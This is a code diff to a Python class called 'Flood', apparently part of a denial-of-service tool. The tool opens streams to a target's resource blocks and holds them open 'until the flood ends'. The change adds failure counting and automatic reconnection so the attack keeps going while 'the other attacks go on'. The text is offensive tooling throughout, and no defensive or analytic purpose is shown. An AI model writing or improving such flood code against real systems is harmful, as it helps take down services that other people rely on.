@@ -545,6 +545,7 @@ class Flood:
             blocks = body.get("resources", {}).get("blocks") or []
         except Exception:
             return
+        failures = 0
         for block in blocks[:4]:
             header = {
                 "op": "open",
@@ -567,7 +568,12 @@ class Flood:
                         reply = await _read_shard_reply(stream)
                 except Exception:
                     self.stats.failed += 1
+                    failures += 1
+                    if failures >= 20:  # the target keeps dropping us: the other attacks go on
+                        return
+                    await self.reconnect()
                     continue
+                failures = 0
                 if reply.get("op") == "opened":
                     self.stats.accepted += 1  # kept open (the stream) until the flood ends
                     continue
